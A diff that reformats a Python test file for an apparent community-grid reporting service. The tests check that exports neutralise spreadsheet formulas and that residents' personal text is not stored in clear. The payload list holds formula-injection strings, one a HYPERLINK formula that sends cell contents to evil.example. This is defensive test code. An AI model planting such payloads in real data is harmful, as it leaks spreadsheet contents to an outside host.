@@ -26,8 +26,18 @@ DEMO = Path(__file__).resolve().parent.parent / "config" / "demo"
 # 6. Exports neutralise spreadsheet formulas
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-PAYLOADS = ["=1+1", "+1+1", "-2+3", "@SUM(A1)", "-A1", "\t=1+1", "\r=1+1", "\n=1+1",
-            '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+A1*2"]
+PAYLOADS = [
+    "=1+1",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "-A1",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+    "+A1*2",
+]
 HOSTILE_COUNTIES = ["\t=1+1", "\r-1+1", "=SUM(1)", "@青禾县", "-1+1"]
 
 
@@ -73,15 +83,29 @@ def hostile_county(tmp_path_factory) -> tuple[dict[str, str], Path]:
     for feature, county in zip(grids["features"], HOSTILE_COUNTIES, strict=True):
         feature["properties"]["county"] = county
     (folder / "grids.geojson").write_text(json.dumps(grids, ensure_ascii=False), "utf-8")
-    workers = [line for line in (DEMO / "staff.csv").read_text("utf-8").splitlines()
-               if line.startswith("userid") or ",grid_worker," in line]
-    workers = [line.replace("李明华", "-李明华+1").replace("赵小燕", "@赵小燕")
-               for line in workers]
+    workers = [
+        line
+        for line in (DEMO / "staff.csv").read_text("utf-8").splitlines()
+        if line.startswith("userid") or ",grid_worker," in line
+    ]
+    workers = [
+        line.replace("李明华", "-李明华+1").replace("赵小燕", "@赵小燕") for line in workers
+    ]
     (folder / "staff.csv").write_text("\n".join(workers) + "\n", "utf-8")
-    env = {"GRIDBOT_DATABASE_URL": f"sqlite+aiosqlite:///{folder / 'gridbot.db'}",
-           "GRIDBOT_DATA_KEY": DEMO_DATA_KEY}
-    gridbot(env, "import", "--grids", str(folder / "grids.geojson"),
-            "--staff", str(folder / "staff.csv"), "--households", str(households))
+    env = {
+        "GRIDBOT_DATABASE_URL": f"sqlite+aiosqlite:///{folder / 'gridbot.db'}",
+        "GRIDBOT_DATA_KEY": DEMO_DATA_KEY,
+    }
+    gridbot(
+        env,
+        "import",
+        "--grids",
+        str(folder / "grids.geojson"),
+        "--staff",
+        str(folder / "staff.csv"),
+        "--households",
+        str(households),
+    )
     return env, folder
 
 
@@ -125,8 +149,9 @@ def test_assessment_csv_runs_no_formula_from_names_or_units(hostile_county):
 def test_assessment_xlsx_holds_no_formula_cell(hostile_county, tmp_path):
     env, _ = hostile_county
     out = tmp_path / "考核.xlsx"
-    gridbot(env, "report", "assessment", "--quarter", "2026Q4", "--format", "xlsx",
-            "--out", str(out))
+    gridbot(
+        env, "report", "assessment", "--quarter", "2026Q4", "--format", "xlsx", "--out", str(out)
+    )
 
     cells = [cell for row in load_workbook(out).worksheets[0].iter_rows() for cell in row]
     assert [c.coordinate for c in cells if c.data_type == "f"] == []
@@ -138,26 +163,39 @@ def test_assessment_xlsx_holds_no_formula_cell(hostile_county, tmp_path):
 NAME, PHONE, ID_NUMBER = "欧阳志远", "13900000077", "110101199001011237"
 NEIGHBOUR = "o_hostile_neighbour_02"
 MARKS = {  # a distinct, searchable phrase for each kind of free text
-    "report name": NAME, "report phone": PHONE, "report id": ID_NUMBER,
-    "pending report": "待定位消息己庚辛", "neighbour name": "司马青云",
-    "neighbour phone": "13900000088", "rate-limited message": "限流消息丙丁戊",
-    "urge note": "督办说明申酉戌", "escalation reason": "上报原因寅卯辰",
-    "resolution": "处理结果丁戊己", "visit note": "走访情况庚辛壬",
-    "patrol finding": "巡查发现癸子丑", "return reason": "退回原因巳午未",
-    "report while updates are held": "窗口关闭亥甲乙", "transfer report": "转派内容乙丙丁",
+    "report name": NAME,
+    "report phone": PHONE,
+    "report id": ID_NUMBER,
+    "pending report": "待定位消息己庚辛",
+    "neighbour name": "司马青云",
+    "neighbour phone": "13900000088",
+    "rate-limited message": "限流消息丙丁戊",
+    "urge note": "督办说明申酉戌",
+    "escalation reason": "上报原因寅卯辰",
+    "resolution": "处理结果丁戊己",
+    "visit note": "走访情况庚辛壬",
+    "patrol finding": "巡查发现癸子丑",
+    "return reason": "退回原因巳午未",
+    "report while updates are held": "窗口关闭亥甲乙",
+    "transfer report": "转派内容乙丙丁",
 }
 
 
 async def leave_personal_text_everywhere(stack) -> None:
     """Every kind of free text the requirement names, typed by residents and staff."""
     marks = MARKS
-    await stack.say(f"小区门口垃圾堆了好几天没人清理，{marks['pending report']}，"
-                    f"我是{NAME}，电话{PHONE}，身份证{ID_NUMBER}")
+    await stack.say(
+        f"小区门口垃圾堆了好几天没人清理，{marks['pending report']}，"
+        f"我是{NAME}，电话{PHONE}，身份证{ID_NUMBER}"
+    )
     await stack.locate("东关一网格")  # the report waiting for a location becomes a ticket
     code = code_in(await stack.say("查询"))
     await stack.locate("东关一网格", NEIGHBOUR)
-    await stack.say(f"单元门口的垃圾箱满了，好几天没人来收，我是{marks['neighbour name']}，"
-                    f"电话{marks['neighbour phone']}", NEIGHBOUR)
+    await stack.say(
+        f"单元门口的垃圾箱满了，好几天没人来收，我是{marks['neighbour name']}，"
+        f"电话{marks['neighbour phone']}",
+        NEIGHBOUR,
+    )
     for n in range(6):
         await stack.say(f"路灯坏了{marks['rate-limited message']}{n}", NEIGHBOUR)
     await stack.staff_says("liminghua", f"接单 {code}")
@@ -181,8 +219,13 @@ async def leave_personal_text_everywhere(stack) -> None:
 
     # the service itself reads it all back: the text was stored, sealed
     texts = " ".join(f"{t.text} {t.resolution or ''}" for t in await stack.tickets())
-    for mark in (NAME, PHONE, marks["resolution"], marks["patrol finding"],
-                 marks["transfer report"]):
+    for mark in (
+        NAME,
+        PHONE,
+        marks["resolution"],
+        marks["patrol finding"],
+        marks["transfer report"],
+    ):
         assert mark in texts, mark
     assert len(await inbound_rows(stack)) >= 20 and len(await stack.outbox()) >= 10
 
@@ -193,16 +236,24 @@ async def clear_text_in_database(url: str) -> list[tuple[str, str, str]]:
     if url.startswith("sqlite"):
         connection = sqlite3.connect(url.split(":///", 1)[1])
         try:
-            tables = [row[0] for row in connection.execute(
-                "SELECT name FROM sqlite_master WHERE type = 'table'")]
+            tables = [
+                row[0]
+                for row in connection.execute(
+                    "SELECT name FROM sqlite_master WHERE type = 'table'"
+                )
+            ]
             for table in tables:
                 columns = [row[1] for row in connection.execute(f'PRAGMA table_info("{table}")')]
                 for row in connection.execute(f'SELECT * FROM "{table}"'):
                     for column, value in zip(columns, row, strict=True):
-                        text = (value.decode("utf-8", "replace") if isinstance(value, bytes)
-                                else str(value))
-                        found.update((table, column, mark) for mark in MARKS.values()
-                                     if mark in text)
+                        text = (
+                            value.decode("utf-8", "replace")
+                            if isinstance(value, bytes)
+                            else str(value)
+                        )
+                        found.update(
+                            (table, column, mark) for mark in MARKS.values() if mark in text
+                        )
         finally:
             connection.close()
     else:
@@ -210,12 +261,16 @@ async def clear_text_in_database(url: str) -> list[tuple[str, str, str]]:
         try:
             columns = await connection.fetch(
                 "SELECT table_name, column_name FROM information_schema.columns "
-                "WHERE table_schema = 'public'")
+                "WHERE table_schema = 'public'"
+            )
             for column in columns:
                 table, name = column["table_name"], column["column_name"]
                 for row in await connection.fetch(f'SELECT "{name}"::text AS v FROM "{table}"'):
-                    found.update((table, name, mark) for mark in MARKS.values()
-                                 if row["v"] and mark in row["v"])
+                    found.update(
+                        (table, name, mark)
+                        for mark in MARKS.values()
+                        if row["v"] and mark in row["v"]
+                    )
         finally:
             await connection.close()
     return sorted(found)
